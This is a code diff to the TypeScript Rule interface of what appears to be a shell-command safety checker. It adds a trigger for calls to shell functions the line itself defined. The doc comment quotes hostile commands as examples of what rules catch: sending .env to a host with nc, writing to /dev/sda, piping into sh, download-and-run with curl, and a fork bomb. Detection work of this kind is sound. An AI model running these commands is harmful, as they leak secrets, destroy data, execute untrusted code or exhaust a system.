@@ -64,11 +64,12 @@ export interface Rule {
    * the index sees at no cost. `redirects`: any command with a redirect (`nc host < .env`, `… > /dev/sda`);
    * `pipedInput`: any command reading a pipe (`… | sh`); `name`: a family of names a list cannot spell (python3.12,
    * perl5.36), judged on the name alone; `afterDownload`: any command after an earlier command of the same line saved a
-   * download (`curl -o i.sh URL && ./i.sh`: the name is the file's, so no list can spell it). The rule runs on a
+   * download (`curl -o i.sh URL && ./i.sh`: the name is the file's, so no list can spell it); `functionCall`: any call
+   * of a shell function the line defined (SimpleCommand.calls: `:(){ :|:& };:`). The rule runs on a
    * command when `commands` has its name or one of these fits. A rule with neither `commands` nor `alsoWhen` runs on
    * every command.
    */
-  alsoWhen?: { redirects?: boolean; pipedInput?: boolean; afterDownload?: boolean; name?: (name: string) => boolean };
+  alsoWhen?: { redirects?: boolean; pipedInput?: boolean; afterDownload?: boolean; functionCall?: boolean; name?: (name: string) => boolean };
   /** Returns a match when this simple command does what the rule guards against; null otherwise. Must be pure. */
   match(command: SimpleCommand, context: RuleContext): RuleMatch | null;
 }
